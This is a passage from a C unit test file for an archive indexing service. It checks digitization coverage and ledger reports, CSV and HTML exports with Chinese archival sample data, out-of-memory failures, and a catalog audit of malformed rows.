    CHECK_CONTAINS(z, "<tr><td class=\"n\">1</td><td>2026-12-01</td><td>li</td><td>A</td><td>题名</td>"
                      "<td>查阅全文、查看扫描件</td><td>1、3、2</td><td>P</td><td></td><td></td><td></td></tr>"
                      "<tr><td class=\"n\">2</td><td>2026-12-01</td><td>ping</td><td>A</td><td>题名</td><td>查阅全文</td>"
                      "<td>2</td><td>P</td>");
    CHECK_CONTAINS(z, "<tr><td class=\"n\">3</td><td>2026-12-02</td><td>li</td><td>A</td>");
    CHECK_CONTAINS(z, "<tr><td class=\"n\">4</td><td>2026-12-01</td><td>li</td><td>A</td><td>题名</td><td>查阅全文</td>"
                      "<td>1</td><td>Q</td>");
    CHECK_CONTAINS(z, "<tr><td class=\"n\">5</td><td>2026-12-01</td><td>li</td><td>B</td>");
    CHECK_CONTAINS(z, "共 5 条登记（8 次查阅或导出）。");
    CHECK(strstr(z, "另有") == NULL);
    free(z);
    json_decref(r);

    /* 20,000 views with distinct purposes: grouped in linear time, the
     * first 5000 rows printed and a line for the rest */
    a = json_array();
    for (int i = 0; i < 20000; i++) {
        char zP[16];
        snprintf(zP, sizeof zP, "p%d", i);
        json_array_append_new(a, use(i + 1, "2026-12-01T10:00:00+08:00", "li", "Z031-WS·2018-Y-BGS-0001", "text", 1, zP));
    }
    r = json_pack("{s:i,s:o}", "total", 20000, "entries", a);
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    CHECK_INT(idx_export_html(IDX_REPORT_REGISTER, r, &z, &n), PS_OK);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    printf("register print of 20000 entries: %.3f s\n",
           (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9);
    CHECK_INT(count(z, "<tr><td class=\"n\">"), IDX_EXPORT_HTML_ROWS);
    CHECK_CONTAINS(z, "<tr><td class=\"n\">5000</td>");
    CHECK_CONTAINS(z, "<td>p4999</td>");
    CHECK(strstr(z, "<td>p5000</td>") == NULL);
    CHECK_CONTAINS(z, "共 20000 条登记（20000 次查阅或导出）。");
    CHECK_CONTAINS(z, "仅列出前 5000 条登记，另有 15000 条未列出；导出 CSV 可得每一次查阅或导出。");
    free(z);
    /* out of memory anywhere: a clean failure */
    for (long k = 1; k < 40; k += 3) {
        px_fail_after(k);
        int rc = idx_export_html(IDX_REPORT_REGISTER, r, &z, &n);
        px_fail_reset();
        CHECK(rc == PS_OK || rc == PS_NOMEM);
        if (rc == PS_OK) free(z);
    }
    json_decref(r);
}

/* A file error's reason without the server's path, for the catalog audit
 * and the deliveries. */
static void test_file_reason(void)
{
    CHECK_STR(idx_file_reason("无法写入 /var/lib/indexd/catalogs/x.csv：磁盘已满"), "磁盘已满");
    CHECK_STR(idx_file_reason("无法写入 /a：b：设备忙"), "设备忙");
    CHECK_STR(idx_file_reason("cannot write /x: No space left on device"), "No space left on device");
    CHECK(idx_file_reason("无法写入") == NULL);
    CHECK(idx_file_reason("无法写入 /x：") == NULL);
}

int main(void)
{
    test_file_reason();
    char zDir[] = "/tmp/test_report_XXXXXX";
    char zErr[256];
    CHECK(mkdtemp(zDir) != NULL);
    idx_index_opts io = {2, 1000, 0, 50};
    CHECK_INT(idx_index_open(zDir, &io, &pIdx, zErr, sizeof zErr), PS_OK);

    put("Z031-WS·2017-Y-BGS-0001", "纸质", "3", "1,2,3");  /* digitized */
    put("Z031-WS·2017-Y-BGS-0002", "纸质", "2", "1");      /* one page of two */
    put("Z031-WS·2017-D30-BGS-0003", NULL, "2", "1,2");    /* no 载体: paper; digitized */
    put("Z031-WS·2017-D10-BGS-0004", "纸质", "1", NULL);   /* 10 years: outside */
    put("Z031-ZP·2018-Y-BGS-0005", "电子", "1", NULL);     /* not paper: outside */
    put("Z032-WS·2018-D30-BGS-0006", "纸质", "4", "2,3");  /* page 1 missing: 0 scanned */
    put("Z032-KJ·2018-Y-BGS-0007", "纸质", NULL, "1");     /* no 页数, a page: digitized */
    CHECK_INT(idx_index_commit(pIdx, zErr, sizeof zErr), PS_OK);

    idx_report_opts o = {.zFonds = NULL};
    json_t *r = NULL;
    CHECK_INT(idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "total"), 5);
    CHECK_INT(num(r, "digitized"), 3);
    CHECK(fabs(num(r, "rate") - 0.6) < 1e-9);
    CHECK(fabs(num(r, "points") - 2.0) < 1e-9);
    CHECK_INT(num(json_object_get(r, "pages"), "total"), 11);
    CHECK_INT(num(json_object_get(r, "pages"), "scanned"), 6);
    CHECK_INT(num(json_object_get(r, "excluded"), "d10"), 1);
    CHECK_INT(num(json_object_get(r, "excluded"), "not_paper"), 1);
    CHECK_INT(num(r, "carrier_unknown"), 1);
    CHECK_INT(num(r, "pages_unknown"), 1);
    json_t *bf = json_object_get(r, "by_fonds");
    CHECK_INT(json_array_size(bf), 2);
    CHECK_STR(json_string_value(json_object_get(json_array_get(bf, 0), "key")), "Z031");
    CHECK_INT(num(json_array_get(bf, 0), "total"), 3);
    CHECK_INT(num(json_array_get(bf, 0), "digitized"), 2);
    CHECK(fabs(num(json_array_get(bf, 0), "rate") - 0.6667) < 1e-9);
    CHECK(fabs(num(json_array_get(bf, 1), "rate") - 0.5) < 1e-9);
    json_t *by = json_object_get(r, "by_year");
    CHECK_STR(json_string_value(json_object_get(json_array_get(by, 1), "key")), "2018");
    CHECK_INT(num(r, "missing_total"), 2);
    json_t *m = json_object_get(r, "missing");
    CHECK_STR(json_string_value(json_object_get(json_array_get(m, 0), "code")), "Z031-WS·2017-Y-BGS-0002");
    CHECK_INT(num(json_array_get(m, 0), "scanned"), 1);
    CHECK_STR(json_string_value(json_object_get(json_array_get(m, 0), "location")), "1号库-3列");
    CHECK_STR(json_string_value(json_object_get(json_array_get(m, 1), "code")), "Z032-WS·2018-D30-BGS-0006");
    CHECK_INT(num(json_array_get(m, 1), "scanned"), 0);

    char *z = NULL;
    size_t n = 0;
    CHECK_INT(idx_export_csv(IDX_REPORT_COVERAGE, r, 0, &z, &n), PS_OK);
    CHECK(n > 3 && memcmp(z, "\xEF\xBB\xBF", 3) == 0);
    CHECK_CONTAINS(z, "合计,,5,3,60.00%,11,6\r\n");
    CHECK_CONTAINS(z, "全宗,Z031,3,2,66.67%,7,6\r\n");
    CHECK_CONTAINS(z, "Z032-WS·2018-D30-BGS-0006,题名,1号库-3列,4,0\r\n");
    free(z);
    CHECK_INT(idx_export_csv(IDX_REPORT_COVERAGE, r, 1, &z, &n), PS_OK);
    CHECK(n > 4 && memcmp(z, "\xb7\xb6\xce\xa7", 4) == 0); /* 范围 in GB18030, no BOM */
    free(z);
    CHECK_INT(idx_export_html(IDX_REPORT_COVERAGE, r, &z, &n), PS_OK);
    CHECK_CONTAINS(z, "<svg");
    CHECK_CONTAINS(z, "60.00%");
    CHECK_CONTAINS(z, "@page{size:A4");
    CHECK(strstr(z, "http://") == NULL || strstr(z, "xmlns=\"http://www.w3.org/2000/svg\"") != NULL);
    free(z);
    json_decref(r);

    /* one 全宗; the missing list paged */
    idx_report_opts o2 = {.zFonds = "Z032", .offset = 1, .limit = 1};
    CHECK_INT(idx_report_coverage(pIdx, &o2, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "total"), 2);
    CHECK_INT(num(r, "digitized"), 1);
    CHECK(fabs(num(r, "points") - 1.6667) < 1e-3);
    CHECK_INT(num(r, "missing_total"), 1);
    CHECK_INT(json_array_size(json_object_get(r, "missing")), 0); /* offset 1 of 1 */
    json_decref(r);

    CHECK_INT(idx_report_ledger(pIdx, &o, &r, zErr, sizeof zErr), PS_OK);
    json_t *rows = json_object_get(r, "rows");
    CHECK_INT(json_array_size(rows), 6);
    static const struct { const char *zF, *zC; int year; const char *zR; int items, pages, dig, scanned; } aWant[] = {
        {"Z031", "WS", 2017, "D10", 1, 1, 0, 0}, {"Z031", "WS", 2017, "D30", 1, 2, 1, 2},
        {"Z031", "WS", 2017, "Y", 2, 5, 1, 4},   {"Z031", "ZP", 2018, "Y", 1, 1, 0, 0},
        {"Z032", "KJ", 2018, "Y", 1, 0, 1, 0},   {"Z032", "WS", 2018, "D30", 1, 4, 0, 0},
    };
    for (size_t i = 0; i < sizeof aWant / sizeof aWant[0] && i < json_array_size(rows); i++) {
        json_t *g = json_array_get(rows, i);
        CHECK_STR(json_string_value(json_object_get(g, "fonds")), aWant[i].zF);
        CHECK_STR(json_string_value(json_object_get(g, "category")), aWant[i].zC);
        CHECK_INT(num(g, "year"), aWant[i].year);
        CHECK_STR(json_string_value(json_object_get(g, "retention")), aWant[i].zR);
        CHECK_INT(num(g, "items"), aWant[i].items);
        CHECK_INT(num(g, "pages"), aWant[i].pages);
        CHECK_INT(num(g, "digitized_items"), aWant[i].dig);
        CHECK_INT(num(g, "scanned_pages"), aWant[i].scanned);
    }
    json_t *t = json_object_get(r, "totals");
    CHECK_INT(num(t, "items"), 7);
    CHECK_INT(num(t, "pages"), 13);
    CHECK_INT(num(t, "digitized_items"), 3);
    CHECK_INT(num(t, "scanned_pages"), 6);
    CHECK_INT(idx_export_csv(IDX_REPORT_LEDGER, r, 0, &z, &n), PS_OK);
    CHECK_CONTAINS(z, "Z031,WS,2017,Y,2,5,1,4\r\n");
    CHECK_CONTAINS(z, "合计,,,,7,13,3,6\r\n");
    free(z);
    json_decref(r);

    /* out of memory anywhere: a clean failure */
    for (long k = 1; k < 120; k += 3) {
        px_fail_after(k);
        int rc = idx_report_coverage(pIdx, &o, &r, zErr, sizeof zErr);
        px_fail_reset();
        CHECK(rc == PS_OK || rc == PS_NOMEM || rc == PS_INDEX);
        if (rc == PS_OK) json_decref(r);
    }

    /* The catalog audit lists a row whose quote is never closed (read
     * again by commas, as the import reads it) as unclosed_quote, and a NUL in a cell as a
     * control character, with their lines, never cut short. */
    static const char zCat[] =
        "档号,题名,责任者,日期,页数\n"
        "Z033-WS·2019-Y-AUD-0001,\"没有结束的引号,县扶贫办,20190101,1\n"
        "Z033-WS·2019-Y-AUD-0002,正常,县扶贫办,20190101,1\n"
        "Z033-WS·2019-Y-AUD-0003,NUL\0标题,县扶贫办,20190101,1\n";
    int kept = 0;
    CHECK_INT(idx_catalog_store(zDir, zCat, sizeof zCat - 1, 1, &kept, zErr, sizeof zErr), PS_OK);
    idx_report_opts oc = {NULL, 0, 100, NULL, NULL};
    CHECK_INT(idx_report_catalog(pIdx, zDir, &oc, &r, zErr, sizeof zErr), PS_OK);
    CHECK_INT(num(r, "rows"), 3);
    int nShape = 0, nControl = 0;
    json_t *pIrr = json_object_get(r, "irregular");
    for (size_t i = 0; i < json_array_size(pIrr); i++) {
        json_t *x = json_array_get(pIrr, i);
        const char *zRule = json_string_value(json_object_get(x, "rule"));
        if (strcmp(zRule, "unclosed_quote") == 0) {
            nShape++;
            CHECK(num(x, "line") == 2);
            CHECK_CONTAINS(json_string_value(json_object_get(x, "reason")), "引号没有闭合");
        } else if (strcmp(zRule, "control") == 0) {
            /* the NUL: a control character, listed with its field */
            nControl++;
            CHECK(num(x, "line") == 4);
            CHECK_STR(json_string_value(json_object_get(x, "key")), "title");
        }
    }
    CHECK_INT(nShape, 1);
    CHECK_INT(nControl, 1);
    json_decref(r);
    test_coverage_hidden();
    test_fold();
    test_csv_formulas();
    test_register_print();

    idx_index_close(pIdx);
    px_test_rmdir(zDir);
    return px_test_done();
}
